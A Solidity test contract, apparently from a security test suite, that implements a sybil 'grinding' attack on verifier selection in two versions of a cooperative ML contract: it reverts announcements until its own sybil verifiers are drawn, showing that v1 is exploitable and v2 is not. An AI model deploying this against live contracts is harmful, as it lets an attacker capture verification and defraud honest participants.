// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface ICoopMLv1Grind {
    function registerContributor(uint256 taskId) external payable;
    function announceModel(uint256 taskId, string calldata cid, bytes32 modelHash, bytes32 keyCommitment)
        external
        returns (uint256);
    function getSelectedVerifiers(uint256 modelId) external view returns (address[] memory);
}

interface ICoopMLv2Grind {
    function registerContributor(uint256 taskId) external payable;
    function announceModel(uint256 taskId, bytes32 envelopeHash, bytes32 keyCommitment, string calldata cid)
        external
        returns (uint256);
    function drawVerifiers(uint256 modelId) external;
    function getSelectedVerifiers(uint256 modelId) external view returns (address[] memory);
}

/// @notice Test-only attacker: a contributor that is a contract. It announces, looks at the
///         verifiers drawn for its model and reverts the whole transaction unless at least
///         `minSybils` of them are its own sybil verifiers, so it can simply retry in the next
///         block until the draw suits it. On v1 the draw happens inside announceModel, so this
///         works; on v2 the draw needs a later block's hash (DrawNotReady in the same transaction)
///         and, once possible, its outcome is fixed whoever calls it.
contract Grinder {
    address public immutable target;
    uint256 public immutable minSybils;
    mapping(address => bool) public isSybil;

    error NotCaptured(uint256 sybilsDrawn, uint256 needed);

    constructor(address target_, address[] memory sybils, uint256 minSybils_) {
        target = target_;
        minSybils = minSybils_;
        for (uint256 i = 0; i < sybils.length; ++i) {
            isSybil[sybils[i]] = true;
        }
    }

    /// Register this contract as a contributor (same signature on v1 and v2).
    function join(uint256 taskId) external payable {
        ICoopMLv2Grind(target).registerContributor{value: msg.value}(taskId);
    }

    /// v1: announce and keep the announcement only if the draw (made inside it) is captured.
    function grindV1(uint256 taskId, bytes32 modelHash, bytes32 keyCommitment) external returns (uint256 modelId) {
        modelId = ICoopMLv1Grind(target).announceModel(taskId, "bafy-grinder", modelHash, keyCommitment);
        _requireCaptured(modelId);
    }

    /// v2: announce and try to draw at once, then keep it only if captured.
    function grindV2(uint256 taskId, bytes32 envelopeHash, bytes32 keyCommitment) external returns (uint256 modelId) {
        modelId = ICoopMLv2Grind(target).announceModel(taskId, envelopeHash, keyCommitment, "bafy-grinder");
        ICoopMLv2Grind(target).drawVerifiers(modelId);
        _requireCaptured(modelId);
    }

    /// v2, in a later block: announce first (plainly), then draw-or-revert.
    function announceV2(uint256 taskId, bytes32 envelopeHash, bytes32 keyCommitment) external returns (uint256) {
        return ICoopMLv2Grind(target).announceModel(taskId, envelopeHash, keyCommitment, "bafy-grinder");
    }

    function drawOrRevert(uint256 modelId) external {
        ICoopMLv2Grind(target).drawVerifiers(modelId);
        _requireCaptured(modelId);
    }

    function _requireCaptured(uint256 modelId) internal view {
        address[] memory drawn = ICoopMLv2Grind(target).getSelectedVerifiers(modelId);
        uint256 count = 0;
        for (uint256 i = 0; i < drawn.length; ++i) {
            if (isSybil[drawn[i]]) count += 1;
        }
        if (count < minSybils) revert NotCaptured(count, minSybils);
    }
}
